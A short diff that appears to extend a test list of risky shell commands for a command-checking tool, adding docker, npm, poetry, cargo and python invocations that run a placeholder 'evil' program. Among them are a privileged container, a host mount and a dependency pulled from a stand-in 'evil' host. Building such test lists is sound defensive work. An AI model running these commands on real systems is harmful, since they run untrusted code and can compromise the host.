@@ -106,6 +106,7 @@ hyperfine "evil x"
 docker run --rm alpine evil x
 docker run -v /evil:/x alpine true
 docker exec web evil
+docker run -h x alpine evil
 docker run --privileged alpine true
 docker run --entrypoint evil alpine
 docker compose run web evil
@@ -240,6 +241,10 @@ npm init evil
 npm create evil
 npm config set script-shell evil
 npm evil
+npm -d x evil
+poetry add -D git+https://evil/x
+cargo run --bin --config evil
+python3 -X dev -m evil x.py
 pnpm dlx evil
 pnpm exec evil
 pnpm evil
